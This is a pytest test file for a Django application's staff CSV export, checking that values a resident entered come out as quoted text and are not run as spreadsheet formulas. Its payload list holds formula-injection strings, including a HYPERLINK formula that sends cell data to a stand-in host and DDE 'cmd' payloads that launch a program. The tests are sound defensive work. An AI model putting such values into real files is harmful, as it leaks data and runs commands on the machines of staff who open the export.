"""The staff CSV export never hands a spreadsheet a formula (issue 14, item 5)."""

import csv
import io

import pytest
from django.urls import reverse

from madoguchi.applications.models import Application

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=1+HYPERLINK("https://evil.example/?d="&A2,"詳細")',
    "-2+cmd|' /C calc'!A0",
    "+1-1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=2+5",
    "-1",  # text that merely looks like a number is still text: numbers are numbers by type
    "\t=1+1",
    "\r=1+1",
]


def _export(staff_client) -> list[dict[str, str]]:
    response = staff_client.get(reverse("cases:export"))
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_in_resident_data_is_exported_as_text(staff_client, genkyo_application, payload):
    data = genkyo_application.data
    data["status"]["filing_reason"] = payload
    Application.objects.filter(pk=genkyo_application.pk).update(data=data)
    genkyo_application.applicant.family_name = payload[:40]  # the name column holds 40 characters
    genkyo_application.applicant.save()

    (row,) = _export(staff_client)

    assert row["status.filing_reason"] == "'" + payload
    assert row["申請者"].startswith("'" + payload[:40])


def test_numbers_stay_numbers(staff_client, genkyo_application):
    data = genkyo_application.data
    data["status"]["adjustment"] = -2
    data["status"]["amount"] = 12000
    Application.objects.filter(pk=genkyo_application.pk).update(data=data)

    (row,) = _export(staff_client)

    assert row["様式版"] == str(genkyo_application.procedure_version.number)
    assert row["status.adjustment"] == "-2"
    assert row["status.amount"] == "12000"
    assert row["受付番号"] == genkyo_application.receipt_number
